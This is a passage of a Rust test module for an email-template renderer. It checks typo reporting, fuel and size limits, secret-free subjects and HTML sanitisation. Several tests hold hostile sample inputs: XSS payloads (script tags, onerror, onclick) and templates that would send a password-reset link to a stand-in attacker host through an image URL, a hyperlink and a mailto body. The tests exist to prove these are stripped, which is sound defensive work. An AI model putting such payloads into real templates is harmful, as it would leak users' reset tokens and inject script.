                let rendered =
                    render(&letter.default_template(), &sample).expect("the template renders");
                assert!(!rendered.subject.contains('\n'), "{letter:?}");
                assert!(rendered.html.starts_with("<!DOCTYPE html>"), "{letter:?}");
            }
        }
    }

    #[test]
    fn a_typo_in_a_variable_is_reported_with_its_line_and_part() {
        let mut template = Letter::Receipt.default_template();
        template.text = "Hello\n{{ piece.titel }}\n{{ piece.link }}".into();
        let problems = check(
            Letter::Receipt,
            &template,
            &sample(Letter::Receipt, &head(), "https://d.example"),
        );
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert_eq!(problems[0].part, Part::Text);
        assert!(problems[0].message.starts_with("line 2:"), "{problems:?}");
    }

    #[test]
    fn a_sign_in_email_without_its_code_is_refused() {
        let mut template = Letter::SignInCode.default_template();
        template.text = "Here is your link: {{ link }}".into();
        let problems = check(
            Letter::SignInCode,
            &template,
            &sample(Letter::SignInCode, &head(), "https://d.example"),
        );
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert!(problems[0].message.contains("{{ code }}"), "{problems:?}");
    }

    #[test]
    fn a_loop_that_never_ends_runs_out_of_fuel_instead_of_hanging() {
        let mut template = Letter::Receipt.default_template();
        template.html =
            "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}"
                .into();
        let problems = check(
            Letter::Receipt,
            &template,
            &sample(Letter::Receipt, &head(), "https://d.example"),
        );
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert_eq!(problems[0].part, Part::Html);
    }

    #[test]
    fn script_in_an_html_template_or_in_what_people_typed_never_reaches_the_mail() {
        let mut template = Letter::Receipt.default_template();
        template.subject = "{{ piece.title }}".into();
        template.text = "{{ piece.link }}".into();
        template.html = "<p onclick=\"x()\">{{ piece.title }}</p><script>alert(1)</script>".into();
        let context = full_context(
            &head(),
            "https://d.example",
            "a@example.org",
            context! { piece => context! { title => "<img src=x onerror=alert(2)>", link => "l" } },
        );
        let rendered = render(&template, &context).expect("the template renders");
        assert!(!rendered.html.contains("<script"), "{}", rendered.html);
        assert!(!rendered.html.contains("onclick"), "{}", rendered.html);
        assert!(!rendered.html.contains("<img"), "{}", rendered.html);
        assert!(rendered.html.contains("&lt;img"), "{}", rendered.html);
    }

    #[test]
    fn no_account_email_carries_its_secret_in_the_subject() {
        for letter in Letter::ALL.into_iter().filter(|letter| letter.is_account()) {
            let sample = sample(letter, &head(), "https://d.example");
            let rendered =
                render(&letter.default_template(), &sample).expect("the template renders");
            for secret in ["48213907", "SAMPLE-TOKEN"] {
                assert!(
                    !rendered.subject.contains(secret),
                    "{letter:?}: {}",
                    rendered.subject
                );
            }
        }
    }

    #[test]
    fn a_call_s_stored_wording_of_an_account_email_is_never_used() {
        let head = Letterhead::for_call(
            head().call.expect("the sample letterhead names a call"),
            vec![StoredTemplate {
                kind: "reset_password".into(),
                template: TemplateText {
                    subject: "Reset {{ link }}".into(),
                    text: "{{ link }}".into(),
                    html: "<img src=\"https://evil.example/?t={{ link }}\">".into(),
                },
                updated_by: "user:1".into(),
                updated_at: jiff::Timestamp::UNIX_EPOCH,
            }],
        );
        let (template, own) = head.template(Letter::ResetPassword);
        assert!(!own);
        assert_eq!(template, Letter::ResetPassword.default_template());
    }

    #[test]
    fn images_and_links_away_from_docket_are_removed_when_a_mail_is_rendered() {
        let template = TemplateText {
            subject: "Hello https://evil.example/s".into(),
            text: "See https://evil.example/?t={{ piece.link }} or {{ piece.link }}".into(),
            html: "<p><img src=\"https://evil.example/p.gif?t={{ piece.link }}\"><a href=\"https://evil.example/\">x</a> <a href=\"{{ piece.link }}\">yours</a> <a href=\"mailto:a@evil.example?body={{ piece.link }}\">m</a></p>".into(),
        };
        let context = full_context(
            &head(),
            "https://d.example",
            "a@example.org",
            context! { piece => context! { title => "T", link => "https://d.example/submissions/1" } },
        );
        let rendered = render(&template, &context).expect("the template renders");
        assert!(!rendered.html.contains("evil.example"), "{}", rendered.html);
        assert!(!rendered.html.contains("<img"), "{}", rendered.html);
        assert!(
            rendered
                .html
                .contains("href=\"https://d.example/submissions/1\""),
            "{}",
            rendered.html
        );
        assert!(!rendered.text.contains("evil.example"), "{}", rendered.text);
        assert!(rendered.text.contains("https://d.example/submissions/1"));
        assert!(!rendered.subject.contains("evil.example"));
        assert_eq!(rendered.removed.len(), 6, "{:?}", rendered.removed);
    }

    #[test]
    fn a_template_that_writes_megabytes_is_stopped_while_it_writes() {
        let mut template = Letter::Receipt.default_template();
        template.text =
            "{% for i in range(20000) %}{{ piece.link }}{{ piece.link }}{% endfor %}".into();
        let problems = check(
            Letter::Receipt,
            &template,
            &sample(Letter::Receipt, &head(), "https://d.example"),
        );
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert!(problems[0].message.contains("far longer"), "{problems:?}");
    }

    #[test]
    fn the_reply_address_adds_the_piece_to_the_inbox_local_part() {
        assert_eq!(
            head().reply_address("42", "k3xq9vty7bm2abcd").as_deref(),
            Some("blogs+s42-k3xq9vty7bm2abcd@techuk.example")
        );
        assert_eq!(
            Letterhead::plain().reply_address("42", "k3xq9vty7bm2abcd"),
            None
        );
    }
}
